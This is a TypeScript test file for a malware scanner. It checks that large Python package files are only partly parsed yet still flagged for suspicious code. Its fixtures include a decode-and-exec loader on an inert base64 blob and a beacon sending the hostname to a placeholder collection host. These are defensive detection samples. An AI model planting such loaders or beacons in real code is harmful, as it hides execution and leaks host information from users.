/**
 * A file over 64 KiB that only behaviour rules ask to parse is parsed only at
 * module level and where a rule's sink meets its sources: the findings there,
 * and their lines, are those of a whole parse. Inert samples written for this
 * test.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Rulebook } from '../../src/analyze/rulebook/rulebook.js';
import { SourceScanner } from '../../src/analyze/source-scan.js';

const book = await Rulebook.load();

/** Honest filler: many small functions and a large class, about 80 KB. */
function filler(): string {
  const parts: string[] = [];
  for (let i = 0; i < 700; i++) parts.push(`def helper_${i}(x, y=${i}):\n    """Adds ${i}."""\n    total = x + y\n    return total * ${i % 7}\n`);
  parts.push('class Table:\n    size = 3\n');
  for (let i = 0; i < 300; i++) parts.push(`    def cell_${i}(self, row):\n        return row[${i % 5}] + self.size\n`);
  return parts.join('\n');
}

const payload = [
  'class Loader:',
  '    def __init__(self):',
  '        self.blob = "cHJpbnQoJ2luZXJ0Jyk="',
  '    def unrelated(self):',
  '        return 42',
  '    def load(self):',
  '        exec(base64.b64decode(self.blob))',
  '',
  'Loader().load()',
  '',
].join('\n');

test('a long file is parsed in part, and the payload in a method is found at its line', () => {
  const head = 'import base64\n';
  const text = head + filler() + '\n' + payload;
  assert.ok(text.length > 64 * 1024);
  const scanner = new SourceScanner(book);
  const hits = scanner.scanPython({ path: 'pkg/big.py', text }, { role: 'package', depth: 0 });
  const hit = hits.find((h) => h.rule.id === 'code.exec-decoded-payload');
  assert.ok(hit, hits.map((h) => h.rule.id).join(', '));
  assert.equal(hit.line, text.slice(0, text.indexOf('exec(base64')).split('\n').length);
  assert.equal(scanner.stats.parsedFiles, 1);
  assert.ok(scanner.stats.parsedBytes < text.length / 4, `parsed ${scanner.stats.parsedBytes} of ${text.length}`);

  // The same code in a short file is parsed whole, with the same finding.
  const short = new SourceScanner(book);
  const shortHits = short.scanPython({ path: 'pkg/small.py', text: head + payload }, { role: 'package', depth: 0 });
  assert.ok(shortHits.some((h) => h.rule.id === 'code.exec-decoded-payload'));
  assert.ok(short.stats.parsedBytes >= (head + payload).length);
});

test('a rule without a sink parses the blocks around its keywords in a long file', () => {
  const beacon = 'def who():\n    return socket.gethostname()\ndef report():\n    urllib.request.urlopen("https://collect.example.invalid/?h=" + who())\nreport()\n';
  const text = 'import socket, urllib.request\n' + filler() + '\n' + beacon;
  const scanner = new SourceScanner(book);
  const hits = scanner.scanPython({ path: 'pkg/big.py', text }, { role: 'package', depth: 0 });
  assert.ok(hits.some((h) => h.rule.id === 'code.recon-beacon'), hits.map((h) => h.rule.id).join(', '));
  assert.ok(scanner.stats.parsedBytes < text.length / 4, `parsed ${scanner.stats.parsedBytes} of ${text.length}`);
});

test('setup.py is always parsed whole, whatever its length', () => {
  const text = 'import base64\n' + filler() + '\n' + payload;
  const scanner = new SourceScanner(book);
  scanner.scanPython({ path: 'setup.py', text }, { role: 'setup', depth: 0 });
  // The whole file, and the decoded layer that the exec runs.
  assert.ok(scanner.stats.parsedBytes >= text.length);
});
